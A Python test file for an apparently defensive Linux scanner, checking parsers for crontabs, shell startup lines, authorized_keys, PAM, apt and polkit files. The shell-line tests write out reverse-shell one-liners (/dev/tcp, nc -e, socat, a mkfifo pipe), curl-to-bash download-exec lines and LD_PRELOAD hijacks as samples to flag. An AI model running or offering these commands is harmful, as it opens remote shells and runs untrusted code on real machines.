"""The pure parsers used by the Linux collectors: examples, and properties (hypothesis): they
never raise on any text, and what is written in the format reads back the same."""

from __future__ import annotations

import base64
import hashlib
import shlex
import string

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from safecheck.scan.collectors.linux.accounts import (
    fingerprint,
    forced_command,
    parse_authorized_keys,
)
from safecheck.scan.collectors.linux.boot import (
    git_value,
    pam_exec_command,
    parse_apt_conf,
    parse_pam_line,
    polkit_allow_all,
)
from safecheck.scan.collectors.parsers.commands import (
    program_of,
    split_command,
    split_segments,
)
from safecheck.scan.collectors.parsers.crontab import (
    AnacronLine,
    AtJob,
    CronLine,
    parse_anacrontab,
    parse_at_job,
    parse_crontab,
)
from safecheck.scan.collectors.parsers.ini import (
    last,
    parse_ini,
    strip_field_codes,
    unescape_desktop,
    values,
)
from safecheck.scan.collectors.parsers.shell import (
    flag_line,
    flag_lines,
    logical_lines,
    strip_comment,
)

ANY_TEXT = st.text(max_size=400)
LINES = st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=60))
LINE_TEXT = LINES.map("\n".join)
NAME = st.text(alphabet=string.ascii_lowercase + string.digits + "_-", min_size=1, max_size=12)


# --- ini -------------------------------------------------------------------------------------
def test_ini_sections_repeated_keys_comments_and_continuations() -> None:
    text = (
        "# comment\n; also a comment\n[Unit]\nDescription = Demo \n\n[Service]\n"
        "ExecStartPre=/bin/true\nExecStartPre=/bin/echo one \\\n  # skipped comment\n"
        "  two\nbroken line\n=novalue\n[Service]\nUser=alice\n"
    )
    data = parse_ini(text)
    assert data == {
        "Unit": {"Description": [("Demo", 4)]},
        "Service": {
            "ExecStartPre": [("/bin/true", 7), ("/bin/echo one two", 8)],
            "User": [("alice", 14)],
        },
    }
    assert values(data, "Service", "ExecStartPre")[1] == ("/bin/echo one two", 8)
    assert last(data, "Service", "User") == ("alice", 14)
    assert last(data, "Install", "WantedBy") is None


def test_ini_without_continuations_keeps_the_backslash() -> None:
    assert parse_ini("[Desktop Entry]\nExec=a \\\nName=x\n", continuation=False) == {
        "Desktop Entry": {"Exec": [("a \\", 2)], "Name": [("x", 3)]}
    }


def test_ini_continuation_at_end_of_file() -> None:
    assert parse_ini("[S]\nA=x \\") == {"S": {"A": [("x", 2)]}}


def test_desktop_exec_cleaning() -> None:
    assert strip_field_codes("foo %U") == "foo"
    assert strip_field_codes("foo %f --x %i bar %%u") == "foo --x bar %u"
    assert strip_field_codes("%k foo") == "foo"
    assert unescape_desktop(r"a\sb\\c\nd\q") == "a b\\c\nd\\q"


SECTION = st.text(alphabet=string.ascii_letters + " -", min_size=1, max_size=15).map(str.strip)
KEY = st.text(alphabet=string.ascii_letters + string.digits + "-_", min_size=1, max_size=15)
VALUE = st.text(
    alphabet=st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp"), exclude_characters="\x85"),
    max_size=30,
).map(str.strip)


@given(ANY_TEXT, st.booleans())
def test_ini_never_raises(text: str, continuation: bool) -> None:
    data = parse_ini(text, continuation=continuation)
    for keys in data.values():
        for found in keys.values():
            assert all(line >= 1 for _, line in found)


@given(
    st.dictionaries(
        SECTION.filter(bool),
        st.lists(st.tuples(KEY, VALUE.filter(lambda v: not v.endswith("\\"))), max_size=5),
        max_size=4,
    )
)
def test_ini_round_trip(sections: dict[str, list[tuple[str, str]]]) -> None:
    lines: list[str] = []
    expected: dict[str, dict[str, list[tuple[str, int]]]] = {}
    for section, pairs in sections.items():
        lines.append(f"[{section}]")
        keys = expected.setdefault(section, {})
        for key, value in pairs:
            lines.append(f"{key}={value}")
            keys.setdefault(key, []).append((value, len(lines)))
        lines.append("")
    assert parse_ini("\n".join(lines)) == expected


@given(ANY_TEXT)
def test_desktop_helpers_never_raise(text: str) -> None:
    assert "%f" not in strip_field_codes(f"x {text} %f").split()
    unescape_desktop(text)


# --- commands --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("/usr/bin/foo -x", "/usr/bin/foo"),
        ("sh -c '/tmp/x --a'", "/tmp/x"),
        ('bash -lc "cd /tmp && ./run"', "./run"),
        ("env X=1 Y=2 /opt/a b", "/opt/a"),
        ("/usr/bin/env python3 x.py", "python3"),
        ("nohup /tmp/.x/agent >/dev/null 2>&1 &", "/tmp/.x/agent"),
        ("cd / && run-parts --report /etc/cron.hourly", "run-parts"),
        ("test -x /usr/sbin/anacron || ( cd / && run-parts /etc/cron.daily )", "run-parts"),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "bash"),
        ("curl http://x | sh", "curl"),
        ("exec 2>/dev/null", None),
        ("sudo -u bob /x", "/x"),
        ("'unbalanced /a", "unbalanced"),
        ("", None),
        ("   ", None),
        ("sleep 60", "sleep"),
        ('env -S "A=1 /bin/x y"', "/bin/x"),
        ("sh /tmp/s.sh", "/tmp/s.sh"),
        ("timeout 10 /x", "/x"),
        ("/usr/bin/test -e /a && /usr/bin/gdbus call", "/usr/bin/gdbus"),
        (". /etc/bash_completion", "/etc/bash_completion"),
        ("X=1 exec setsid -f nice -n 5 /opt/y", "/opt/y"),
        ("su -c '/root/.x' root", "/root/.x"),
        ("(sleep 30; /tmp/x) &", "/tmp/x"),
        ("debian_chroot=$(cat /etc/debian_chroot)", None),
    ],
)
def test_program_of(command: str, program: str | None) -> None:
    assert program_of(command) == program


def test_split_segments_keeps_redirections_and_quotes() -> None:
    assert split_segments("a 2>&1 | b && c; d & e &>/f 'g;h' \"i|j\"") == [
        "a 2>&1",
        "b",
        "c",
        "d",
        "e &>/f 'g;h' \"i|j\"",
    ]
    assert split_command("a 'b c' \"d\" $(cat /x /y) e") == ["a", "b c", "d", "$(cat /x /y)", "e"]


WORD = st.text(
    alphabet=st.characters(codec="utf-8", exclude_characters="`()$<"),
    min_size=1,
    max_size=10,
)


@given(st.lists(WORD, min_size=1, max_size=6))
def test_split_command_round_trip(words: list[str]) -> None:
    assert split_command(shlex.join(words)) == words


@given(NAME, st.lists(st.text(alphabet=string.ascii_letters + "-=/. ", max_size=8), max_size=4))
def test_program_of_a_plain_program(name: str, arguments: list[str]) -> None:
    program = f"/opt/prog-{name}"  # never the name of a wrapper or a shell
    assert program_of(shlex.join([program, *arguments])) == program
    assert program_of(f"nohup env A=1 {program} &") == program
    assert program_of(f"sh -c {shlex.quote(shlex.join([program, *arguments]))}") == program


@given(ANY_TEXT)
def test_command_helpers_never_raise(text: str) -> None:
    program_of(text)
    split_command(text)
    for segment in split_segments(text):
        assert segment == segment.strip()
        assert segment


# --- crontab ---------------------------------------------------------------------------------
def test_crontab_lines() -> None:
    text = (
        "MAILTO=root\nSHELL = /bin/sh\n# m h dom mon dow user command\n"
        "*/5 * * * * root /usr/bin/x --y\n@reboot alice /home/alice/.x\n"
        "0 0 * jan,feb mon-fri bob echo % done\n@every root nope\n1 2 3 root too-short\n"
        "garbage line here with many words\n"
    )
    assert parse_crontab(text, system=True) == [
        CronLine(4, "*/5 * * * *", "root", "/usr/bin/x --y"),
        CronLine(5, "@reboot", "alice", "/home/alice/.x"),
        CronLine(6, "0 0 * jan,feb mon-fri", "bob", "echo % done"),
    ]
    assert parse_crontab("@daily /opt/d\n15 3 * * * /opt/e -f\n", system=False) == [
        CronLine(1, "@daily", None, "/opt/d"),
        CronLine(2, "15 3 * * *", None, "/opt/e -f"),
    ]


def test_anacrontab_lines() -> None:
    text = (
        "SHELL=/bin/sh\nRANDOM_DELAY=45\n7\t25\tcron.weekly\trun-parts /etc/cron.weekly\nx 1 y z\n"
    )
    assert parse_anacrontab(text) == [
        AnacronLine(3, "7", "25", "cron.weekly", "run-parts /etc/cron.weekly")
    ]


def test_at_job_without_command() -> None:
    assert parse_at_job("#!/bin/sh\n# atrun uid=12 gid=12\numask 22\n") == AtJob(12, None, None)
    assert parse_at_job("") == AtJob(None, None, None)


NUMERIC_FIELD = st.sampled_from(["*", "*/5", "0", "1-5", "1,2,3", "0-59/2"])
FIELD = st.sampled_from(["*", "*/5", "0", "1-5", "mon", "1,2,3", "jan", "0-59/2", "mon-fri"])
COMMAND = st.text(
    alphabet=st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp", "Zs")),
    min_size=1,
    max_size=20,
)
USER = st.text(alphabet=string.ascii_lowercase + string.digits + "_", min_size=1, max_size=10)


@given(
    st.lists(NUMERIC_FIELD, min_size=3, max_size=3),
    st.lists(FIELD, min_size=2, max_size=2),
    USER,
    COMMAND,
    st.lists(COMMAND, max_size=3),
)
def test_crontab_round_trip(
    times: list[str], days: list[str], user: str, program: str, args: list[str]
) -> None:
    command = " ".join([program, *args])
    schedule = " ".join(times + days)
    assert parse_crontab(f"{schedule} {user} {command}\n", system=True) == [
        CronLine(1, schedule, user, command)
    ]
    assert parse_crontab(f"# x\n{schedule}\t{command}", system=False) == [
        CronLine(2, schedule, None, command)
    ]


@given(st.integers(0, 9999), st.integers(0, 999), USER, COMMAND)
def test_anacrontab_round_trip(period: int, delay: int, job: str, command: str) -> None:
    assert parse_anacrontab(f"{period} {delay} {job} {command}") == [
        AnacronLine(1, str(period), str(delay), job, command)
    ]


@given(LINE_TEXT, st.booleans())
def test_cron_parsers_never_raise(text: str, system: bool) -> None:
    for job in parse_crontab(text, system=system):
        assert job.command == job.command.strip() and job.command
    parse_anacrontab(text)
    parse_at_job(text)


@given(st.integers(0, 10**6), COMMAND)
def test_at_job_round_trip(uid: int, command: str) -> None:
    assume(not command.startswith(("#", "cd", "umask", "export", "exit", "}", "{")))
    assume("=" not in command and "marcinDELIMITER" not in command)
    script = (
        f"#!/bin/sh\n# atrun uid={uid} gid=0\numask 22\nHOME=/; export HOME\ncd / || {{\n"
        f"\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}}\n"
        f"${{SHELL:-/bin/sh}} << 'marcinDELIMITER0a1b2c3d'\n{command}\nmarcinDELIMITER0a1b2c3d\n"
    )
    assert parse_at_job(script) == AtJob(uid, command, 10)


# --- shell -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("line", "reason", "program"),
    [
        ("nohup /tmp/.x/agent >/dev/null 2>&1 &", "background", "/tmp/.x/agent"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "network-shell", "bash"),
        ("curl -fsSL http://x.example/a.sh | bash", "download-exec", "curl"),
        ('eval "$(curl -s http://x)"', "download-exec", "eval"),
        ("wget -qO- http://x | sudo -E python3 -", "download-exec", "wget"),
        ("echo aGVsbG8= | base64 -d | sh", "download-exec", "echo"),
        ("bash <(curl -s http://x)", "download-exec", "bash"),
        ("export LD_PRELOAD=/usr/lib/libx.so", "ld-preload", "/usr/lib/libx.so"),
        ("/home/u/.cache/.x/agent --quiet", "program", "/home/u/.cache/.x/agent"),
        ("exec /opt/spy/bin/run", "program", "/opt/spy/bin/run"),
        ("alias sudo='/tmp/.s/sudo'", "program", "/tmp/.s/sudo"),
        ("nc -e /bin/sh 1.2.3.4 80", "network-shell", "nc"),
        ("ncat --exec /bin/bash 1.2.3.4 80", "network-shell", "ncat"),
        ("socat TCP:1.2.3.4:80 EXEC:/bin/bash", "network-shell", "socat"),
        (
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
            "network-shell",
            "rm",
        ),
        ("python3 -c 'import socket,os,pty;s=socket.socket()'", "network-shell", "python3"),
        ("set -gx LD_PRELOAD /x.so", "ld-preload", "/x.so"),
        ('export PROMPT_COMMAND="/tmp/k/log"', "program", "/tmp/k/log"),
        (". /tmp/x.sh", "program", "/tmp/x.sh"),
        ("~/.local/bin/thing", "program", "~/.local/bin/thing"),
        ("screen -dmS x /opt/y", "background", "screen"),
        ("setsid /opt/z", "background", "/opt/z"),
    ],
)
def test_flagged_lines(line: str, reason: str, program: str | None) -> None:
    assert flag_line(line) == (reason, program)


@pytest.mark.parametrize(
    "line",
    [
        "alias ll='ls -alF'",
        "export PATH=$HOME/bin:$PATH",
        "[ -f ~/.bash_aliases ] && . ~/.bash_aliases",
        ". /etc/bash_completion",
        '[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"',
        "debian_chroot=$(cat /etc/debian_chroot)",
        "/usr/bin/setxkbmap fr",
        "cmd 2>&1",
        "a && b",
        "unset LD_PRELOAD",
        "curl -s http://x -o /tmp/y | sha256sum",
    ],
)
def test_ordinary_lines(line: str) -> None:
    assert flag_line(line) is None


def test_logical_lines_and_comments() -> None:
    text = "# c \\\necho a \\\n  b # note\n\n  # indented\necho '#not' \"#no\" x#y # yes\ntail \\"
    assert logical_lines(text) == [(2, "echo a   b"), (6, "echo '#not' \"#no\" x#y"), (7, "tail")]
    assert strip_comment("a ${#x} $# b") == "a ${#x} $# b"


def test_a_very_long_line_is_not_searched() -> None:
    line = "curl x" * 5000
    assert flag_line(line) == ("long-line", None)


@given(LINE_TEXT)
def test_shell_parser_never_raises(text: str) -> None:
    count = text.count("\n") + 1
    for flag in flag_lines(text):
        assert 1 <= flag.line <= count
        assert flag.reason in {
            "network-shell",
            "download-exec",
            "ld-preload",
            "background",
            "program",
            "long-line",
        }


@given(
    st.lists(st.text(alphabet=string.ascii_letters + " =/", min_size=1, max_size=20), max_size=8)
)
def test_logical_lines_round_trip(lines: list[str]) -> None:
    kept = [(n, line.strip()) for n, line in enumerate(lines, 1) if line.strip()]
    assert logical_lines("\n".join(lines)) == kept


# --- authorized_keys -------------------------------------------------------------------------
def test_authorized_keys_lines() -> None:
    blob = b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + bytes(range(32))
    encoded = base64.b64encode(blob).decode()
    text = (
        f"# comment\n\nssh-ed25519 {encoded}\n"
        f'restrict,command="echo \\"hi there\\"" ssh-ed25519 {encoded} me@host extra\n'
        f"ssh-rsa {encoded} wrong type inside\nssh-ed25519 not-base64!\nnot a key at all\n"
    )
    keys = parse_authorized_keys(text)
    assert [(k.line, k.options, k.key_type, k.comment) for k in keys] == [
        (3, "", "ssh-ed25519", ""),
        (4, 'restrict,command="echo \\"hi there\\""', "ssh-ed25519", "me@host extra"),
    ]
    digest = base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
    assert keys[0].fingerprint == f"SHA256:{digest}"
    assert forced_command(keys[1].options) == 'echo "hi there"'
    assert forced_command("no-pty") is None


KEY_TYPE = st.sampled_from(
    ["ssh-ed25519", "ssh-rsa", "ecdsa-sha2-nistp256", "sk-ssh-ed25519@openssh.com"]
)
COMMENT = st.text(alphabet=string.ascii_letters + string.digits + "@.- ", max_size=20).map(
    str.strip
)


@given(KEY_TYPE, st.binary(max_size=300), COMMENT, st.sampled_from(["", "no-pty,restrict "]))
def test_authorized_keys_round_trip(key_type: str, body: bytes, comment: str, options: str) -> None:
    blob = len(key_type).to_bytes(4, "big") + key_type.encode() + body
    line = f"{options}{key_type} {base64.b64encode(blob).decode()} {comment}"
    (key,) = parse_authorized_keys(line)
    assert (key.key_type, key.comment, key.options) == (key_type, comment, options.strip())
    assert key.fingerprint == fingerprint(blob)


@given(ANY_TEXT)
def test_authorized_keys_never_raise(text: str) -> None:
    parse_authorized_keys(text)
    forced_command(text)


# --- apt, pam, polkit, git -------------------------------------------------------------------
def test_apt_conf() -> None:
    text = (
        '// comment\nAPT::Update::Pre-Invoke {"/bin/a"; "/bin/b";};\n/* multi\nline */\n'
        'DPkg { Post-Invoke { "rm -f /x"; }; Options "--force"; };\n#clear APT\n'
        "APT::Get::Assume-Yes true;\n"
    )
    assert [(v.key, v.value, v.line) for v in parse_apt_conf(text)] == [
        ("APT::Update::Pre-Invoke", "/bin/a", 2),
        ("APT::Update::Pre-Invoke", "/bin/b", 2),
        ("DPkg::Post-Invoke", "rm -f /x", 5),
        ("DPkg::Options", "--force", 5),
        ("APT::Get::Assume-Yes", "true", 7),
    ]


APT_KEY = st.lists(
    st.text(alphabet=string.ascii_letters + "-", min_size=1, max_size=8), min_size=1, max_size=3
).map("::".join)
APT_VALUE = st.text(alphabet=st.characters(codec="utf-8", exclude_characters='"'), max_size=20)


@given(st.lists(st.tuples(APT_KEY, APT_VALUE), max_size=5))
def test_apt_conf_round_trip(pairs: list[tuple[str, str]]) -> None:
    text = "\n".join(f'{key} "{value}";' for key, value in pairs)
    assert [(v.key, v.value) for v in parse_apt_conf(text)] == pairs


def test_pam_lines() -> None:
    assert parse_pam_line("auth [success=1 default=ignore] pam_unix.so nullok") == (
        "auth",
        "[success=1 default=ignore]",
        "pam_unix.so",
        "nullok",
    )
    assert parse_pam_line("-session optional pam_systemd.so") == (
        "session",
        "optional",
        "pam_systemd.so",
        "",
    )
    assert parse_pam_line("sshd auth required pam_exec.so /x", with_service=True) == (
        "auth",
        "required",
        "pam_exec.so",
        "/x",
    )
    assert parse_pam_line("@include common-auth") is None
    assert parse_pam_line("auth [broken pam_x.so") is None
    assert pam_exec_command("debug log=/tmp/l type=auth /usr/bin/x a b") == (
        "debug log=/tmp/l type=auth",
        "/usr/bin/x a b",
    )


def test_polkit_rules() -> None:
    text = (
        "polkit.addRule(function(action, subject) {\n"
        '  if (subject.isInGroup("wheel")) { return polkit.Result.YES; }\n});\n'
        "polkit.addRule(function(action, subject) {\n"
        "  // subject.user is not checked: this is a comment\n"
        "  return polkit.Result.YES;\n});\n"
    )
    assert polkit_allow_all(text) == [(6, "any")]
    assert polkit_allow_all("var s = 'return polkit.Result.YES';") == []


def test_git_values() -> None:
    assert git_value('"less -R" # pager') == "less -R"
    assert git_value(r'"a \"quoted\" word" ; c') == 'a "quoted" word'
    assert git_value(r"x\ty") == "x\ty"


@given(st.text(alphabet=string.ascii_letters + string.digits + " /-_.", max_size=30))
def test_git_value_round_trip(value: str) -> None:
    assert git_value(f'"{value}" # comment') == value.strip()


@settings(max_examples=200)
@given(ANY_TEXT)
def test_hook_parsers_never_raise(text: str) -> None:
    parse_apt_conf(text)
    parse_pam_line(text)
    parse_pam_line(text, with_service=True)
    pam_exec_command(text)
    polkit_allow_all(text)
    git_value(text)
